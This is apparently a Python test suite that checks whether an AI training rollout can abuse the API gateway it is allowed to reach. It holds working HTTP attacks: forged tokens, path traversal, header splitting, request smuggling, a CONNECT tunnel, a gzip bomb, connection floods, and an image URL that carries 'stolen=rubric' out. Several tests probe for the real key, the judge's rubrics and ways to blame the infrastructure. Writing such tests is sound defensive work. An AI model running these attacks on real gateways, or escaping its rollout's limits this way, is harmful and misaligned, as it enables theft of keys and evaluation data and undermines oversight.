"""The gateway abused: the one service that a rollout can reach.

The evidence says that the gateway gave what it should not; the trusted side looks as well what came
through to the provider.
"""

import contextlib
import json
import socket
import struct
import time
from typing import Any

from common import Targets, run, secret_in

HELLO = [{"role": "user", "content": "hello"}]
LINE = "\r\n"


def solve(task: Any, model: Any) -> None:
    run(globals(), task, model)


def asks_another_model(t: Targets) -> str | None:
    """Asks for a dearer model."""
    return _served(t, _sound(t, model="scripted-2-dearer"))


def asks_without_a_token(t: Targets) -> str | None:
    """Sends no token."""
    return _served(t, _sound(t), token=None)


def asks_with_a_forged_token(t: Targets) -> str | None:
    """Sends a made-up token."""
    return _served(t, _sound(t), token="A" * 32)


def asks_with_an_empty_token(t: Targets) -> str | None:
    """Sends an empty token."""
    return _served(t, _sound(t), token="")


def asks_with_the_real_keys_name(t: Targets) -> str | None:
    """Sends what a real key looks like."""
    return _served(t, _sound(t), token="sk-ant-api03-" + "A" * 80)


def has_the_provider_search_the_web(t: Targets) -> str | None:
    """Has the provider run a tool that reaches the internet."""
    tool = {"type": "web_search_20250305", "name": "web_search", "max_uses": 1}
    return _served(t, _sound(t, tools=[tool]))


def has_the_provider_run_code(t: Targets) -> str | None:
    """Has the provider run code for it."""
    return _served(t, _sound(t, tools=[{"type": "code_execution_20250522", "name": "run"}]))


def has_the_provider_call_a_server(t: Targets) -> str | None:
    """Has the provider call a server of its choice."""
    server = {"type": "url", "url": "https://example.com/mcp", "name": "mine"}
    return _served(t, _sound(t, mcp_servers=[server]))


def has_the_provider_fetch_an_address(t: Targets) -> str | None:
    """Carries a secret out in an address that the provider fetches."""
    source = {"type": "url", "url": "https://example.com/?stolen=rubric"}
    content = [{"type": "image", "source": source}]
    return _served(t, _sound(t, messages=[{"role": "user", "content": content}]))


def reads_a_stored_file(t: Targets) -> str | None:
    """Asks for a file that is stored at the provider."""
    content = [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]
    return _served(t, _sound(t, messages=[{"role": "user", "content": content}]))


def makes_a_batch(t: Targets) -> str | None:
    """Orders a batch, which outlives its rollout."""
    one = {"custom_id": "a", "params": json.loads(_sound(t))}
    return _served(t, json.dumps({"requests": [one]}).encode(), path="/v1/messages/batches")


def lists_the_batches(t: Targets) -> str | None:
    """Lists the batches of the judge, rubrics included."""
    return _served(t, b"", path="/v1/messages/batches", method="GET")


def lists_the_models(t: Targets) -> str | None:
    """Uses other parts of the API with the real key."""
    return _served(t, b"", path="/v1/models", method="GET")


def lists_the_stored_files(t: Targets) -> str | None:
    """Lists the files that are stored with the real key."""
    return _served(t, b"", path="/v1/files", method="GET")


def goes_round_the_path(t: Targets) -> str | None:
    """Reaches another part of the API by `..` in the path."""
    return _served(t, b"", path="/v1/messages/../models", method="GET") or _served(
        t, b"", path="/v1/messages/%2e%2e/files", method="GET"
    )


def names_another_host(t: Targets) -> str | None:
    """Names another host for the gateway to send to."""
    return _elsewhere(t, _request(t, _sound(t), path="http://127.0.0.1:9/v1/messages"))


def makes_a_tunnel(t: Targets) -> str | None:
    """Asks the gateway for a tunnel to another service of the machine."""
    answer = _exchange(
        t, f"CONNECT 127.0.0.1:{t.tcp_port} HTTP/1.1{LINE}Host: x{LINE * 2}".encode()
    )
    return "tunnelled" if b" 200 " in answer[:20] else None


def adds_its_own_headers(t: Targets) -> str | None:
    """Passes a header on that turns on something dearer."""
    body = _sound(t)
    return _served(t, body, headers=["anthropic-beta: context-1m-2025-08-07"])


def forges_its_noise(t: Targets) -> str | None:
    """Chooses its own luck by the header that only the gateway may send."""
    _exchange(t, _request(t, _sound(t, marker="noise"), headers=["x-noise-key: forged"]))
    return None


def splits_a_header(t: Targets) -> str | None:
    """Puts a line end into a header that is passed on."""
    forged = "anthropic-version: 2023-06-01\rx-api-key: forged"
    return _served(t, _sound(t), headers=[forged])


def smuggles_a_request(t: Targets) -> str | None:
    """Hides a request in the body of another, by two lengths that differ."""
    hidden = _request(t, _sound(t, marker="smuggled"), token=None)
    body = b"0\r\n\r\n" + hidden
    lines = ["Transfer-Encoding: chunked"]
    return _second_answer(_exchange(t, _request(t, body, headers=lines)))


def sends_a_second_request_behind_the_first(t: Targets) -> str | None:
    """Sends a request without a token behind one with, on the same connection."""
    first = _request(t, _sound(t), close=False)
    return _second_answer(_exchange(t, first + _request(t, _sound(t), token=None)))


def takes_over_anothers_connection(t: Targets) -> str | None:
    """Sends half a request, and hopes that another's completes it."""
    whole = _request(t, _sound(t), close=False)
    with _connection(t) as connection:
        connection.sendall(whole + whole[: len(whole) // 2])
        time.sleep(0.1)
    return None


def reads_the_key_in_an_error(t: Targets) -> str | None:
    """Looks for the real key in what the provider says is wrong."""
    return secret_in(_exchange(t, _request(t, _sound(t, marker="echo-an-error"))))


def reads_the_key_in_a_reply(t: Targets) -> str | None:
    """Looks for the real key in the headers and the text of a reply."""
    return secret_in(_exchange(t, _request(t, _sound(t, marker="echo-a-reply"))))


def reads_the_key_in_an_error_of_the_gateway(t: Targets) -> str | None:
    """Looks for the real key in what the gateway says when it is confused."""
    broken = [b"\0\xff" * 100, b"GET", b"POST / HTTP/9.9\r\n\r\n", _request(t, b"{" * 5_000)]
    broken += [_request(t, b"[" * 100_000), _request(t, b'{"model": 1e999}')]
    return next(filter(None, (secret_in(_exchange(t, one)) for one in broken)), None)


def sends_a_huge_body(t: Targets) -> str | None:
    """Announces and sends more than the gateway holds."""
    head = _request(t, b"", headers=["Content-Length: 2000000000"]).replace(
        b"Content-Length: 0\r\n", b""
    )
    with _connection(t) as connection, contextlib.suppress(OSError):
        connection.sendall(head)
        for _ in range(96):
            connection.sendall(b" " * 1_000_000)
        return "was served" if b" 200 " in connection.recv(1000) else None
    return None


def sends_a_nested_body(t: Targets) -> str | None:
    """Sends a body that is nested a hundred thousand times."""
    deep = b'{"model": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    return _served(t, deep)


def sends_a_compressed_bomb(t: Targets) -> str | None:
    """Sends a small body that unpacks to a large one."""
    import gzip

    bomb = gzip.compress(b" " * 50_000_000 + _sound(t))
    return _served(t, bomb, headers=["Content-Encoding: gzip"])


def floods_it_with_connections(t: Targets) -> str | None:
    """Takes every connection of the gateway, so that others find none."""
    held = []
    with contextlib.suppress(OSError):
        for _ in range(200):
            held.append(_connection(t))
            held[-1].sendall(b"POST /v1/messages HTTP/1.1\r\nHost: x\r\n")
    time.sleep(0.5)
    for connection in held:
        connection.close()
    return None


def uses_its_token_after_another_path(t: Targets) -> str | None:
    """Sends its token as a query, where logs would keep it."""
    return _served(t, _sound(t), token=None, path=f"/v1/messages?x-api-key={t.model.token}")


def makes_the_gateway_take_the_blame(t: Targets) -> None:
    """Breaks off in every way, so that its failure looks like one of the infrastructure."""
    whole = _request(t, _sound(t), close=False)
    for part in (whole[:9], whole[:-9], whole, whole * 3):
        with _connection(t) as connection:
            reset = struct.pack("ii", 1, 0)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
            connection.sendall(part)


def floods_it_with_requests(t: Targets) -> str | None:
    """Sends more requests than a rollout may, until it is refused."""
    for _ in range(1_100):
        answer = _exchange(t, _request(t, b"{}", path="/v1/flood"))
        if not answer or b"may send" in answer:
            return None
    return "1,100 requests were heard"


def _sound(t: Targets, marker: str = "", **changes: Any) -> bytes:
    request = {"model": t.said["model"], "max_tokens": 9, "messages": HELLO, **changes}
    if marker:
        request["messages"] = [{"role": "user", "content": marker}]
    return json.dumps(request).encode()


OWN = "the rollout's own"


def _request(
    t: Targets,
    body: bytes,
    *,
    token: str | None = OWN,
    path: str = "/v1/messages",
    method: str = "POST",
    headers: list[str] | None = None,
    close: bool = True,
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: gateway", "Content-Type: application/json"]
    if token is not None:
        lines.append(f"x-api-key: {t.model.token if token == OWN else token}")
    lines += [f"Content-Length: {len(body)}", *(headers or [])]
    lines += ["Connection: close"] if close else []
    return (LINE.join(lines) + LINE * 2).encode("latin-1") + body


def _connection(t: Targets) -> socket.socket:
    host, _, port = t.model._gateway.rpartition(":")
    connection = socket.socket(socket.AF_INET if host else socket.AF_UNIX)
    connection.settimeout(5)
    connection.connect((host, int(port)) if host else t.model._gateway)
    return connection


def _exchange(t: Targets, data: bytes) -> bytes:
    """All that comes back until the connection is closed, or nothing comes for a second."""
    answer = b""
    with _connection(t) as connection:
        with contextlib.suppress(ConnectionError):
            connection.sendall(data)
        connection.settimeout(1)
        with contextlib.suppress(OSError):
            while piece := connection.recv(65536):
                answer += piece
    return answer


def _served(t: Targets, body: bytes, **options: Any) -> str | None:
    answer = _exchange(t, _request(t, body, **options))
    if not answer:
        raise ConnectionError("the connection was closed")
    status = int(answer.split(b" ", 2)[1])
    if status == 200:
        return f"was served: {answer[-80:]!r}"
    raise PermissionError(f"status {status}")


def _elsewhere(t: Targets, data: bytes) -> str | None:
    answer = _exchange(t, data)
    return "sent elsewhere" if b" 502 " in answer[:20] else None


def _second_answer(answer: bytes) -> str | None:
    """Whether a request behind the first was served, too."""
    return "both were served" if answer.count(b"HTTP/1.1 200") > 1 else None
